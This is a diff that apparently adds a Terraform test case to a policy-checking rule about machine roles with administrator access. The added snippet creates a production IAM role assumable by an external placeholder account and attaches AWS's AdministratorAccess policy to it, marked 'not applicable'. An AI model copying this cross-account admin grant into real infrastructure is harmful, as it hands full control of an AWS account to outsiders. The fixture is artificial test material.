@@ -544,6 +544,18 @@ rule "machine-with-administrator-access" {
       policy_arn = one(aws_iam_policy.queue[*].arn)
     }
 
+    resource "aws_iam_role" "person" { # not applicable
+      count = var.stage == "production" ? 1 : 0
+
+      name               = "${var.stage}-person"
+      assume_role_policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { AWS = "111122223333" } }] })
+    }
+
+    resource "aws_iam_role_policy_attachment" "person" {
+      role       = one(aws_iam_role.person[*].name)
+      policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
+    }
+
     resource "aws_iam_role_policy_attachment" "ssm" {
       role       = aws_iam_role.task.name
       policy_arn = data.aws_iam_policy.ssm.arn
